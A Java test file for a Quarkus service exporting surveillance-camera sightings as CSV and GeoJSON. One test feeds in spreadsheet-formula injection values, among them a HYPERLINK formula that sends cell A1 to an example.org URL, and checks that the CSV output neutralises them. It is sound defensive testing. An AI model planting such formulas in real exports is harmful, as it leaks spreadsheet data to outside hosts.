package org.technocarte.export;

import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.technocarte.export.ResearchFixtures.get;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.technocarte.sighting.SightingFixtures;

@QuarkusTest
class CsvExportTest {

  private final ResearchFixtures fixtures;
  private final SightingFixtures sightings;

  CsvExportTest(ResearchFixtures fixtures, SightingFixtures sightings) {
    this.fixtures = fixtures;
    this.sightings = sightings;
  }

  @BeforeEach
  void load() {
    fixtures.load();
  }

  @Test
  void shouldExportOneRowPerCameraThatReadsBack() {
    String today = LocalDate.now(ZoneOffset.UTC).toString();
    String text =
        get("/api/export/sightings.csv")
            .then()
            .statusCode(200)
            .contentType(containsString("text/csv"))
            .contentType(containsString("charset=utf-8"))
            .header(
                "Content-Disposition",
                equalTo(
                    "attachment; filename=\"technocarte-sightings-" + today + "-ODbL-1.0.csv\""))
            .header("Link", containsString("opendatacommons.org/licenses/odbl"))
            .header("Content-Crs", equalTo("<http://www.opengis.net/def/crs/OGC/1.3/CRS84>"))
            .extract()
            .asString();
    List<List<String>> rows = Csv.parse(text);
    List<String> header = rows.get(0);
    assertEquals(List.of("id", "lon", "lat", "wkt"), header.subList(0, 4));
    assertEquals(4, rows.size(), "a header and three cameras");
    for (List<String> row : rows) {
      assertEquals(header.size(), row.size(), "every row has every column: " + row);
    }
    Map<String, String> comedie = row(rows, fixtures.comedie());
    assertEquals("3.87967", comedie.get("lon"));
    assertEquals("43.60851", comedie.get("lat"));
    assertEquals("POINT(3.87967 43.60851)", comedie.get("wkt"), "longitude first");
    assertEquals("90;270", comedie.get("directions"));
    assertEquals(ResearchFixtures.COMEDIE_NOTES, comedie.get("notes"));
    assertEquals("true", comedie.get("vsaSuspected"));
    assertEquals(ResearchFixtures.COMEDIE_EVIDENCE, comedie.get("vsaEvidence"));
    assertEquals("4.5", comedie.get("height"));
    assertEquals("dome", comedie.get("cameraType"));
    assertEquals(ResearchFixtures.MONTPELLIER, comedie.get("cityCode"));
    assertEquals("Montpellier", comedie.get("cityName"));
    assertEquals("2025-03-01", comedie.get("observedAt"));
    assertEquals("approved", comedie.get("status"));
    Map<String, String> gare = row(rows, fixtures.gare());
    assertEquals("alpr", gare.get("surveillanceType"));
    assertEquals("", gare.get("height"), "an unknown height is an empty cell");
  }

  @Test
  void shouldKeepWalkersFormulasInertInSpreadsheetsButExactInGeoJson() {
    String formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"Voir\")";
    ObjectNode feature = SightingFixtures.feature(SightingFixtures.MID_ATLANTIC);
    SightingFixtures.properties(feature)
        .put("notes", formula)
        .put("operator", "+33 4 67 00 00 00")
        .put("vsaEvidence", "@SUM(1+1)")
        .put("height", 3);
    long id = sightings.approved(feature);

    Map<String, String> row = row(Csv.parse(get("/api/export/sightings.csv").asString()), id);
    assertEquals("'" + formula, row.get("notes"));
    assertEquals("'+33 4 67 00 00 00", row.get("operator"));
    assertEquals("'@SUM(1+1)", row.get("vsaEvidence"));
    assertEquals("-35", row.get("lon"), "numbers are never prefixed, negative ones included");
    assertEquals("3", row.get("height"));
    assertEquals(
        ResearchFixtures.COMEDIE_NOTES,
        row(Csv.parse(get("/api/export/sightings.csv").asString()), fixtures.comedie())
            .get("notes"),
        "other text is untouched");

    get("/api/export/sightings.geojson?bbox=-36,39,-34,41")
        .then()
        .statusCode(200)
        .body("features[0].properties.notes", equalTo(formula))
        .body("features[0].properties.operator", equalTo("+33 4 67 00 00 00"));
  }

  @Test
  void shouldBePlacedByGdalFromItsWktColumnOrItsLonLatColumns() throws Exception {
    Gdal.assumeInstalled();
    Path file = Files.createTempFile("export", ".csv");
    try {
      Files.writeString(
          file, get("/api/export/sightings.csv").then().statusCode(200).extract().asString());
      for (String options :
          List.of("GEOM_POSSIBLE_NAMES=wkt", "X_POSSIBLE_NAMES=lon,Y_POSSIBLE_NAMES=lat")) {
        List<String> command = new ArrayList<>(List.of("ogrinfo", "-ro", "-al"));
        for (String option : options.split(",")) {
          command.addAll(List.of("-oo", option));
        }
        command.addAll(
            List.of(
                "-oo",
                "KEEP_GEOM_COLUMNS=NO",
                "-oo",
                "AUTODETECT_TYPE=YES",
                "-where",
                "id = " + fixtures.comedie(),
                file.toString()));
        String info = Gdal.run(command.toArray(String[]::new));
        assertTrue(info.contains("Feature Count: 1"), options + ": " + info);
        assertTrue(info.contains("POINT (3.87967 43.60851)"), options + ": " + info);
      }
      String all =
          Gdal.run(
              "ogrinfo", "-ro", "-so", "-al", "-oo", "GEOM_POSSIBLE_NAMES=wkt", file.toString());
      assertTrue(all.contains("Feature Count: 3"), all);
      assertTrue(
          all.contains("Extent: (2.363230, 43.604780) - (3.879670, 48.867420)"),
          "from République in Paris to the Comédie in Montpellier: " + all);
    } finally {
      Files.deleteIfExists(file);
    }
  }

  private static Map<String, String> row(List<List<String>> rows, long id) {
    List<String> header = rows.get(0);
    for (List<String> row : rows.subList(1, rows.size())) {
      if (row.get(0).equals(Long.toString(id))) {
        Map<String, String> cells = new HashMap<>();
        for (int i = 0; i < header.size(); i++) {
          cells.put(header.get(i), row.get(i));
        }
        return cells;
      }
    }
    throw new AssertionError("no row for " + id);
  }
}
